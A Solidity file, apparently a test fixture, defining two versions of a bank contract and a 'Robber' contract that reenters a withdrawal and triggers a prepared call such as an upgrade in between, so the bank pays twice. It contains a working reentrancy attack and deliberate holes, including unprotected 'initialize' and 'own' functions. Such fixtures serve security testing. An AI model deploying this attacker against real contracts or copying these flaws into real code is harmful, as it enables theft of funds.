// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.20;

import {Upgraded} from "./adopted/Uups.sol";

// A bank in two versions. Each is safe against a depositor who comes back in the middle of his withdrawal, and
// each in its own way: an upgrade in that very moment makes it pay twice.
abstract contract Bank {
    mapping(address => uint256) public balanceOf;
    bool internal entered;
    /// Whether the step to the next version reverts.
    bool internal refuses;

    function initialize(bool refuses_) external {
        refuses = refuses_;
    }

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function pay(uint256 amount) internal {
        (bool done,) = msg.sender.call{value: amount}("");
        require(done, "not taken");
    }
}

// It locks.
abstract contract Locking is Bank {
    function withdraw() external {
        require(!entered, "entered");
        entered = true;
        pay(balanceOf[msg.sender]);
        balanceOf[msg.sender] = 0;
        entered = false;
    }
}

// It books first.
abstract contract Booking is Bank {
    function withdraw() external {
        uint256 amount = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        pay(amount);
    }

    function migrate() external view {
        require(!refuses, "refuses");
    }
}

contract Bank1 is Locking {}

contract Bank2 is Booking {}

contract UupsBank1 is Locking, Upgraded {
    function own(address first) external {
        require(owner() == address(0), "owned");
        _transferOwnership(first);
    }
}

contract UupsBank2 is Booking, Upgraded {}

// Its own function has the name of one of a transparent proxy.
contract AnsweringBank is Locking {
    function implementation() external view returns (address) {
        return address(this);
    }
}

interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

// A depositor whose callback sends what he has prepared, and withdraws once more.
contract Robber {
    IBank bank;
    address to;
    bytes data;
    /// What came of what he had prepared.
    bytes public outcome;

    function deposit(IBank bank_) external payable {
        bank = bank_;
        bank.deposit{value: msg.value}();
    }

    function rob(address to_, bytes calldata data_) external {
        (to, data) = (to_, data_);
        bank.withdraw();
    }

    receive() external payable {
        if (to == address(0)) return;
        (address target, bytes memory prepared) = (to, data);
        to = address(0);
        (, outcome) = target.call(prepared);
        try bank.withdraw() {} catch {}
    }
}
